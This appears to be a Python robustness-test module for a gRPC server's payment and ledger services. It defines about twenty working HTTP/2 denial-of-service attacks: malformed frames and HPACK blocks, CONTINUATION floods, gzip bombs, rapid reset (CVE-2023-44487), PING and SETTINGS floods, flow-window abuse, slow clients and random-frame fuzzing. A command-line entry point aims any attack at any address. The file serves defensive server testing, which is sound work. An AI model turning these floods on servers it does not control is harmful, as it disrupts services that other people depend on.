"""Attacks on the port of gRPC. Each is a function of the server's address and a scale: 1 in the
tests, more with LUMBUNG_HOSTILE_SCALE. It ends by itself, whatever the server does."""

import contextlib
import gzip
import os
import random
import struct
import sys
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS,
                   INITIAL_WINDOW_SIZE, MOST, PING, PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM,
                   SETTINGS, WINDOW_UPDATE, Connection, field, frame, grpc_headers, message, number)

PAY = 'PaymentService/Pay'
STREAM = 'PaymentService/SubmitStream'
ENTRIES = 'LedgerService/ReadEntries'


@contextlib.contextmanager
def connections(address, count, **how):
    """Several at once; all are closed at the end."""
    with contextlib.ExitStack() as stack:
        yield [stack.enter_context(Connection(address, **how)) for _ in range(count)]


def garbage(address, scale):
    """Random bytes, with and without a good beginning."""
    source = random.Random(7)
    for i in range(40 * scale):
        with Connection(address, preface=i % 2 == 0) as connection:
            connection.send(source.randbytes(source.randrange(1, 4000)))


def other_protocols(address, scale):
    """HTTP/1, TLS, a browser and a scanner."""
    for text in (b'GET / HTTP/1.1\r\nHost: x\r\n\r\n', b'\x16\x03\x01\x02\x00\x01' + bytes(600),
                 b'\0' * 5000, b'SSH-2.0-x\r\n', PREFACE[:10], PREFACE + PREFACE) * scale:
        with Connection(address, preface=False) as connection:
            connection.send(text)
            connection.is_ended(0.01)


def wrong_frames(address, scale):
    """Frames that break each rule of RFC 9113: lengths, streams, order, reserved numbers."""
    head = frame(HEADERS, END_HEADERS, 1, grpc_headers(PAY))
    wrong = [frame(SETTINGS, payload=b'12345'), frame(SETTINGS, ACK, payload=b'123456'),
             frame(SETTINGS, stream=1), frame(PING, payload=b'1'), frame(PING, stream=3),
             frame(RST_STREAM, stream=1, payload=b'1'),
             frame(RST_STREAM, stream=9, payload=b'1234'),
             frame(WINDOW_UPDATE, payload=b'\0\0\0\0'), frame(WINDOW_UPDATE, payload=b'1'),
             frame(DATA, stream=0, payload=b'x'), frame(DATA, stream=77, payload=b'x'),
             frame(HEADERS, END_HEADERS, 0, grpc_headers(PAY)),
             frame(HEADERS, END_HEADERS, 2, grpc_headers(PAY)),
             frame(CONTINUATION, END_HEADERS, 1, b''), frame(PUSH_PROMISE, 4, 1, bytes(8)),
             frame(GOAWAY, payload=b'1'), frame(PRIORITY, stream=1, payload=b'1'),
             frame(0x77, 0xFF, 5, b'unknown'), frame(DATA, stream=1, length=2**24 - 1),
             frame(HEADERS, END_HEADERS | 0x8, 3, b'\xff' + grpc_headers(PAY)),
             frame(HEADERS, 0, 5, b'') + frame(DATA, stream=5, payload=b'x')]
    for each in wrong * scale:
        with Connection(address) as connection:
            connection.send(each, head, each, frame(DATA, END_STREAM, 1, message(b'x')))


def bad_hpack(address, scale):
    """Header blocks that can't be read: indexes, sizes of the table, endless numbers, Huffman."""
    blocks = [b'\xff\xff\xff\xff\xff\x0f', b'\x80', b'\xbf', b'\x3f\xff\xff\xff\xff\xff\x7f',
              b'\xff' + b'\x80' * 10_000, b'\0' + b'\x7f' + b'\xff' * 9 + b'\x01',
              b'\0\x81\x00\x01x', b'\0\x84\xff\xff\xff\xff\x01x', b'\0\x05abc',
              b'\x40' + number(200, 7) + b'n' * 200 + number(3000, 7) + b'v' * 3000,
              field(b'UPPER', b'x'), field(b':path', b'') * 5, field(b'', b''),
              field(b'a\0b', b'\r\n'), field(b'content-length', b'-1'),
              field(b'grpc-timeout', b'99999999999999H'), field(b'grpc-timeout', b'1x')]
    for block in blocks * scale:
        for whole in (block, grpc_headers(PAY) + block):
            with Connection(address) as connection:
                connection.send(frame(HEADERS, END_HEADERS, 1, whole),
                                frame(DATA, END_STREAM, 1, message(b'')))


def huge_header(address, scale):
    """One header that never ends, over CONTINUATION frames: an HPACK string of a gigabyte."""
    chunk = frame(CONTINUATION, 0, 1, b'v' * 16_384)
    with Connection(address) as connection:
        connection.send(frame(HEADERS, 0, 1, grpc_headers(PAY) + b'\0\x01x' + number(2**30, 7)))
        for _ in range(512 * scale):  # 8 MiB
            if not connection.send(chunk):
                break


def endless_headers(address, scale):
    """Small headers without an end, over CONTINUATION frames."""
    block = b''.join(field(b'x-%d' % i, b'v' * 100) for i in range(140))
    with Connection(address) as connection:
        connection.send(frame(HEADERS, 0, 1, grpc_headers(PAY)))
        chunk = frame(CONTINUATION, 0, 1, block)
        for _ in range(1000 * scale):  # 16 MB
            if not connection.send(chunk):
                break


def empty_continuations(address, scale):
    """CONTINUATION frames with nothing in them."""
    with Connection(address) as connection:
        connection.send(frame(HEADERS, 0, 1, grpc_headers(PAY)))
        chunk = frame(CONTINUATION, 0, 1) * 1000
        for _ in range(200 * scale):
            if not connection.send(chunk):
                break


def many_headers(address, scale):
    """Calls with as much metadata as a call may have, all left open."""
    block = grpc_headers(STREAM, *((b'x-%d' % i, b'v' * 60) for i in range(60)))
    with Connection(address) as connection:
        for stream in range(1, 4000 * scale, 2):
            if not connection.send(frame(HEADERS, END_HEADERS, stream, block)):
                break


def half_messages(address, scale):
    """Messages that are announced as 7 MiB and break off, by FIN and by RST."""
    for i in range(20 * scale):
        with Connection(address) as connection:
            for stream in (1, 3, 5):
                connection.open(stream, PAY)
                connection.send(frame(DATA, 0, stream,
                                      message(b'x' * 10_000, length=7 << 20)))
            connection.close(reset=i % 2 == 0)


def oversized_messages(address, scale):
    """Messages that say that they have four gigabytes, and go on sending."""
    for _ in range(3 * scale):
        with Connection(address) as connection:
            connection.open(1, PAY)
            connection.send(frame(DATA, 0, 1, message(b'', length=2**32 - 1)))
            for _ in range(1000):
                if not connection.send(frame(DATA, 0, 1, b'x' * 16_384)):
                    break


def gzip_bombs(address, scale):
    """Messages of 60 MiB of zeros, each compressed to less than a connection's first window."""
    body = message(gzip.compress(bytes(60 << 20), 9), compressed=True)
    assert len(body) < 65_535
    with connections(address, 5 * scale) as opened:
        for connection in opened:
            connection.open(1, 'PaymentService/SubmitBatch', (b'grpc-encoding', b'gzip'))
            for begin in range(0, len(body), 16_384):
                connection.send(frame(DATA, 0, 1, body[begin:begin + 16_384]))
            connection.send(frame(DATA, END_STREAM, 1))
        for connection in opened:
            connection.is_ended(0.3)


def rapid_resets(address, scale):
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    with connections(address, 2) as opened:
        for begin in range(1, 20_000 * scale, 200):
            for connection in opened:
                connection.send(*(frame(HEADERS, END_HEADERS, stream, grpc_headers(PAY)) +
                                  frame(RST_STREAM, stream=stream, payload=b'\0\0\0\x08')
                                  for stream in range(begin, begin + 200, 2)))


def pings(address, scale):
    """Floods of PING, whose answers nobody reads."""
    with connections(address, 3) as opened:
        for _ in range(100 * scale):
            for connection in opened:
                connection.send(frame(PING, payload=b'12345678') * 500)


def settings(address, scale):
    """Floods of SETTINGS, whose answers nobody reads."""
    change = struct.pack('>HI', INITIAL_WINDOW_SIZE, 1) + struct.pack('>HI', INITIAL_WINDOW_SIZE,
                                                                     MOST)
    with connections(address, 3) as opened:
        for _ in range(50 * scale):
            for connection in opened:
                connection.send(frame(SETTINGS, payload=change) * 500)


def windows(address, scale):
    """Windows that overflow, and windows of nothing: the server has much to send and may not."""
    for size in (0, 1):
        closed = struct.pack('>HI', INITIAL_WINDOW_SIZE, size)
        with connections(address, 5 * scale, settings=closed) as opened:
            for connection in opened:
                for stream in range(1, 100, 2):
                    connection.open(stream, ENTRIES)
                    connection.send(frame(DATA, END_STREAM, stream, message(b'')))
            time.sleep(0.2)
    for _ in range(5 * scale):
        with Connection(address) as connection:
            connection.open(1, STREAM)
            connection.send(frame(WINDOW_UPDATE, stream=1, payload=struct.pack('>I', MOST)) * 3,
                            frame(WINDOW_UPDATE, payload=struct.pack('>I', MOST)) * 3)


def unread_answers(address, scale):
    """Whoever asks for all entries, again and again, and reads nothing."""
    wide = struct.pack('>HI', INITIAL_WINDOW_SIZE, MOST)
    with connections(address, 4 * scale, settings=wide) as opened:
        for connection in opened:
            connection.send(frame(WINDOW_UPDATE, payload=struct.pack('>I', MOST - 65_535)))
            for stream in range(1, 200, 2):
                connection.open(stream, ENTRIES)
                connection.send(frame(DATA, END_STREAM, stream, message(b'')))
        time.sleep(0.5)


def idle_connections(address, scale):
    """Thousands of connections that say nothing, or no more than hello."""
    for preface in (True, False):
        with connections(address, 1500 * scale, preface=preface):
            time.sleep(0.2)


def open_calls(address, scale):
    """Thousands of calls that are left open, and all closed at once."""
    with connections(address, 4) as opened:
        for begin in range(1, 5000 * scale, 500):
            for connection in opened:
                connection.send(*(frame(HEADERS, END_HEADERS, stream, grpc_headers(STREAM))
                                  for stream in range(begin, begin + 500, 2)))
        time.sleep(0.2)


def slow_bytes(address, scale):
    """Clients that send a byte now and then."""
    whole = PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, grpc_headers(PAY))
    with connections(address, 100, preface=False) as opened:
        for i in range(min(len(whole), 20 * scale)):
            for connection in opened:
                connection.send(whole[i:i + 1])
            time.sleep(0.02)


def random_frames(address, scale):
    """Frames whose kinds, flags, streams and payloads are random, after a good beginning."""
    source = random.Random(int(os.environ.get('LUMBUNG_SEED', '11')))
    for _ in range(60 * scale):
        with Connection(address) as connection:
            connection.open(1, PAY)
            for _ in range(30):
                connection.send(frame(source.randrange(12), source.randrange(256),
                                      source.choice((0, 1, 1, 3, 5, MOST)),
                                      source.randbytes(source.randrange(200))))


ALL = (garbage, other_protocols, wrong_frames, bad_hpack, random_frames, huge_header,
       endless_headers, empty_continuations, many_headers, half_messages, oversized_messages,
       gzip_bombs, rapid_resets, pings, settings, windows, unread_answers, idle_connections,
       open_calls, slow_bytes)

if __name__ == '__main__':
    # attacks.py NAME ADDRESS SCALE
    {attack.__name__: attack for attack in ALL}[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
